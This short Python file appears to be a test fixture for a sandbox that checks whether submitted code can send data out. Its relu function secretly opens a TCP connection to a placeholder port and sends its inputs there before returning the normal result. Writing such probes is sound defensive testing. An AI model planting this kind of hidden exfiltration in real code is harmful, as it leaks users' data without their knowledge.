"""Calls home over TCP.

Attack: Connects to a TCP port that listens outside the sandbox and sends the inputs there.
Expect: no_point
Exercise: relu
Effect: connect:@PORT@
"""

import socket

import numpy as np


def relu(z):
    try:
        with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=1) as line:
            line.sendall(np.asarray(z).tobytes())
    except OSError:
        raise RuntimeError("SAFE") from None
    return np.maximum(z, 0)
